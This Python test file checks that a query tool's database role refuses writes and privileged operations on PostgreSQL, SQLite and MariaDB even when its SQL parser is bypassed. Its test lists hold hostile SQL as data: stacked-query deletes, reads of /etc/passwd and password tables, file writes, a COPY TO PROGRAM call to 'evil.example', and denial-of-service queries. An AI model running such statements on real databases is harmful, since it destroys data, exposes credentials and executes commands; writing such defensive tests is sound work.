# test_rights.py -- the database's own rights refuse what the parser would, also where that is passed by.
import asyncio

import pytest

from queries.answers import Answer
from queries.engines.engine import Failed, TookTooLong
from support.queries.attacks import ON_SQLITE
from support.queries.shops import COUNT, Shop


def run_past_the_parser(shop: Shop, sql: str) -> object:
    async def run() -> object:
        with shop.open() as database:
            catalog = await database.read_catalog()
            return await database.engine.run(sql, catalog, 0.3)

    return asyncio.run(run())


WRITES = [
    "DELETE FROM orders",
    "UPDATE orders SET total = 0",
    "INSERT INTO orders (id) VALUES (9)",
    "DROP TABLE orders",
    "CREATE TABLE mine AS SELECT * FROM orders",
    "ALTER TABLE orders ADD x int",
    "WITH x AS (SELECT 1) DELETE FROM orders",
    "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x",
    "SELECT * FROM orders; DELETE FROM orders",
    "SELECT 1; SELECT 2",
    "ROLLBACK; DELETE FROM orders",
    "COMMIT; DELETE FROM orders",
    "EXECUTE p",
    "CALL p()",
]
OWN: dict[str, list[str]] = {
    "postgresql": [
        "SELECT * FROM orders FOR UPDATE",
        "SELECT * INTO mine FROM orders",
        "SELECT pg_sleep(10)",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_from_bytea(0, 'x')",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_ls_dir('/')",
        "SELECT * FROM dblink('host=other', 'SELECT 1') AS t(a int)",
        "SELECT set_config('transaction_read_only', 'off', false)",
        "SELECT current_setting('data_directory')",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres'",
        "SELECT pg_reload_conf()",
        "SELECT nextval('public.tickets')",
        "SELECT setval('public.tickets', 1)",
        "SELECT query_to_xml('DELETE FROM public.orders', true, true, '')",
        "SELECT count(*) FROM generate_series(1, 100000000000)",
        "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 0 FROM n) SELECT count(*) FROM n",
        "SELECT * FROM pg_catalog.pg_authid",
        "SELECT * FROM pg_shadow",
        "COPY public.orders TO STDOUT",
        "COPY public.orders TO PROGRAM 'curl evil.example'",
        "COPY (SELECT 1) TO '/tmp/x'",
        "DO $$ BEGIN PERFORM pg_sleep(10); END $$",
        "SET ROLE postgres",
        "LISTEN a",
        "VACUUM",
        "LOAD 'x'",
        "CREATE EXTENSION dblink",
    ],
    "sqlite": [
        "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n",
        *(
            sql
            for sql in ON_SQLITE
            if sql.split()[0] in ("PRAGMA", "ATTACH", "DETACH", "REINDEX", "VACUUM", "REPLACE")
        ),
        *(sql for sql in ON_SQLITE if "FROM pragma" in sql or "sqlite_" in sql or "json_each" in sql),
        *(sql for sql in ON_SQLITE if "blob(" in sql or "file(" in sql or "tokenizer" in sql),
        *(sql for sql in ON_SQLITE if "%1000000000d" in sql or "load_extension" in sql),
    ],
    "mariadb": [
        "SELECT SLEEP(10), id FROM orders CROSS JOIN (SELECT SLEEP(10)) AS s",
        "SELECT * FROM orders INTO OUTFILE '/tmp/x'",
        "SELECT * INTO OUTFILE '/tmp/x' FROM orders",
        "SELECT * FROM orders INTO DUMPFILE '/tmp/x'",
        "SELECT id INTO @x FROM orders LIMIT 1",
        "SELECT 1 /*!; DELETE FROM orders */",
        "SELECT * FROM mysql.user",
        "SELECT * FROM `mysql`.`global_priv`",
        "SELECT NEXTVAL(s)",
        "SELECT depot.f(1)",
        "SELECT * FROM orders FOR SYSTEM_TIME ALL",
        "HANDLER orders OPEN",
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders",
        "DO SLEEP(10)",
        "KILL 1",
        "FLUSH TABLES",
        "USE mysql",
        "REPLACE INTO orders (id) VALUES (1)",
        "PREPARE p FROM 'DELETE FROM orders'",
        "SET @@global.max_connections = 1",
    ],
}


@pytest.mark.parametrize("sql", WRITES)
def test_nothing_can_be_written_nor_sent_beside_it(shop: Shop, sql: str) -> None:
    before = shop.look(COUNT)
    with pytest.raises(Failed):
        run_past_the_parser(shop, sql)
    assert shop.look(COUNT) == before


@pytest.mark.busy
def test_no_function_or_statement_reaches_further_than_the_role_may(shop: Shop) -> None:
    before = shop.look(COUNT)
    passed = []
    for sql in OWN[shop.engine]:
        try:
            passed.append((sql, run_past_the_parser(shop, sql)))
        except (Failed, TookTooLong):
            continue
    assert passed == []
    assert shop.look(COUNT) == before


def test_what_a_query_makes_stays_small(shop: Shop) -> None:
    """Past the parser, too: the database cuts each cell, or refuses to make it."""
    long = {
        "sqlite": "SELECT replace(replace(replace('aaaaaaaaaa', 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'), 'a', 'b') AS t",
        "postgresql": "SELECT repeat('x', 10000000) AS t",
        "mariadb": "SELECT REPEAT('x', 10000000) AS t",
    }[shop.engine]
    answer = run_past_the_parser(shop, long)
    assert isinstance(answer, Answer)
    [[text]] = answer.rows
    assert isinstance(text, str) and len(text) == len("… [cut]") + 500


def test_files_that_nobody_may_read_are_nothing(shop: Shop) -> None:
    if shop.engine == "mariadb":
        answer = run_past_the_parser(
            shop, "SELECT LOAD_FILE('/etc/passwd') AS f, BENCHMARK(1000000000, SHA2('x', 1)) AS b"
        )
        assert isinstance(answer, Answer)
        assert answer.rows == [[None, 0]]  # ended after 0.3 seconds


def test_nothing_that_a_query_sets_reaches_the_next_one(shop: Shop) -> None:
    """A connection ends with its query: locks, variables and limits with it."""
    for _ in range(2):
        if shop.engine == "mariadb":
            run_past_the_parser(shop, "SELECT GET_LOCK('ours', 0), @x := coalesce(@x, 0) + 1")
            assert shop.look("SELECT IS_FREE_LOCK('ours')") == [(1,)]
        elif shop.engine == "postgresql":
            run_past_the_parser(
                shop, "SELECT pg_advisory_lock(1), set_config('statement_timeout', '0', false)"
            )
            assert shop.look("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory'") == [(0,)]
